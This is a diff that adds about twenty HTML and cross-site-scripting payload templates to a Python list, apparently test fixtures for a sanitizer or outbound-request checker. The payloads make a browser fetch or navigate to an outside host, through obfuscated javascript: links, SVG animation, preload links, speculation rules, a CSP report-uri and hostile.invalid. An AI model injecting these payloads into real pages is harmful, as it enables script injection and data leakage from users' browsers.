@@ -25,6 +25,14 @@ _PARTS = (
     '<x-y onclick=1><script>top.location="{out}/{n}"</script></x-y>', '<font face="\'><img src={out}/{n}>">x</font>',
     '<p title="&lt;img src={out}/{n}&gt;">&lt;img src={out}/{n}&gt;</p>', "<p dir='\"><img src={out}/{n}>'>x</p>", '<listing><img src="{out}/{n}"></listing>',
     '<html manifest="{out}/{n}">', "<img src=`{out}/{n}`>", '<div\x00 style=x><scr\x00ipt>location="{out}/{n}"</scr\x00ipt>', "\ufeff<ſcript>x</ſcript><img/src={out}/{n}/onerror=x>",
+    '<link rel="preload" as="image" href="{out}/{n}" imagesrcset="{out}/{n}b 2x">', '<link rel="modulepreload" href="{out}/{n}.js">',
+    '<link rel="manifest" href="{out}/{n}.json"><link rel="icon" href="{out}/{n}.ico">', '<body background="{out}/{n}" style="background:image-set(url({out}/{n}) 1x)">',
+    '<form id="f"><button formaction="{out}/{n}" autofocus>x</button></form><input form="f" formaction="javascript:x()">', '<video><track default src="{out}/{n}.vtt"></video>',
+    '<svg><a><animate attributeName="href" values="{out}/{n}"/><text>x</text></a><set attributeName="onload" to="x()"/></svg>', '<image src="{out}/{n}" href="{out}/{n}">',
+    '<div><template shadowrootmode="open"><img src="{out}/{n}"><style>:host{{background:url({out}/{n})}}</style></template></div>',
+    '<script type="speculationrules">{{"prerender":[{{"urls":["{out}/{n}"]}}]}}</script>', '<meta http-equiv="Content-Security-Policy" content="default-src x; report-uri {out}/{n}">',
+    '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="//hostile.invalid/{n}">x</a>', '<iframe src="data:text/html,<img src={out}/{n}>"></iframe>',
+    '<a href="\x01java\nscript:location=\'{out}/{n}\'">x</a>', '<table><caption><img src="{out}/{n}" lowsrc="{out}/{n}" dynsrc="{out}/{n}"></caption></table>',
 )  # fmt: skip
 
 PAGES = [
